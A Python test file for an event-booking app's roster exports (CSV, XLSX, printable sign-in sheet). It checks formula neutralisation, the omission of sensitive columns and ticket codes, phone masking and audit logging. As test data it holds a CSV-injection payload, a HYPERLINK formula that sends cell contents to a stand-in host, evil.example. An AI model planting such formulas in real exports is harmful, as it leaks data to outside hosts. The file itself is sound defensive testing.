"""Exports: CSV with BOM, XLSX, printable sign-in sheet; formulas neutralised; no sensitive columns; audited."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook
from sqlalchemy import select

from app.audit import AuditEntry
from app.booking.models import Registration
from app.extensions import db
from app.orgs.models import OrgLevel
from app.spreadsheets import neutralise

from .. import factories
from .factories import book

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _event_with_evil_names():  # type: ignore[no-untyped-def]
    event = factories.make_event(capacity=10)
    company = factories.make_org("jx-nanchang", OrgLevel.ENTERPRISE, name="@SUM(1+1)工会")
    people = [
        factories.make_employee(name=EVIL, phone="13900000001", organization=company),
        factories.make_employee(name="+86 王五", phone="13900000002"),
        factories.make_employee(name="-2+3", phone="13900000003"),
        factories.make_employee(name="\t制表符", phone="13900000004"),
        factories.make_employee(name="\r回车", phone="13900000005"),
        factories.make_employee(name="李四", phone="13900000006", gender="male"),
    ]
    # Names arriving through an import are not stripped the way the sign-up form strips them.
    people[3].name, people[4].name = "\t制表符", "\r回车"
    db.session.commit()
    for person in people:
        book(person, event.slots[0])
    return event


def _ticket_codes(event) -> set[str]:  # type: ignore[no-untyped-def]
    return set(db.session.scalars(select(Registration.ticket_code).where(Registration.event_id == event.id)))


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+1") == "'+1" and neutralise("-1") == "'-1" and neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("李四") == "李四" and neutralise(None) == "" and neutralise(3) == "3"


def test_csv_has_bom_neutralised_cells_and_only_needed_columns(organizer_client, organizer):
    event = _event_with_evil_names()
    response = organizer_client.get(f"/organizer/events/{event.id}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["序号", "姓名", "手机号", "所属工会", "场次", "状态", "签到时间", "标签"]
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + EVIL, "'+86 王五", "'-2+3", "'\t制表符", "'\r回车", "李四"]
    assert rows[1][3] == "'@SUM(1+1)工会"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    text = raw.decode("utf-8-sig")
    assert "性别" not in text and "female" not in text and "婚" not in text and "出生" not in text
    assert not any(code in text for code in _ticket_codes(event))  # a ticket code would let anyone check in
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "roster.export"))
    assert entry is not None and entry.detail == {"format": "csv", "rows": 6} and entry.actor_id == organizer.id


def test_xlsx_opens_evil_name_as_text(organizer_client):
    event = _event_with_evil_names()
    response = organizer_client.get(f"/organizer/events/{event.id}/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert header == ["序号", "姓名", "手机号", "所属工会", "场次", "状态", "签到时间", "标签"]
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value == "'" + EVIL  # a string cell, never a formula
    for row in sheet.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f"  # never a formula
            assert not str(c.value or "").startswith(("=", "+", "-", "@", "\t", "\r"))
    # No ticket codes (they would let anyone check a person in) and no gender column.
    values = {str(c.value) for row in sheet.iter_rows() for c in row}
    assert not values & _ticket_codes(event)
    assert "female" not in values and "女" not in values


def test_export_respects_filters(organizer_client):
    event = _event_with_evil_names()
    response = organizer_client.get(f"/organizer/events/{event.id}/export.csv?gender=male")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))
    assert [row[1] for row in rows[1:]] == ["李四"]


def test_signin_sheet_is_printable_and_masks_phones(organizer_client):
    event = _event_with_evil_names()
    response = organizer_client.get(f"/organizer/events/{event.id}/signin-sheet")
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "签到表" in page
    assert re.search(r"organizer(\.[0-9a-f]+)?\.css", page)  # the stylesheet, by its fingerprinted name
    assert "13900000006" not in page and "0006" in page
    assert "=HYPERLINK(&#34;" in page or "=HYPERLINK(&quot;" in page  # escaped as HTML text
    assert "共 6 人" in page
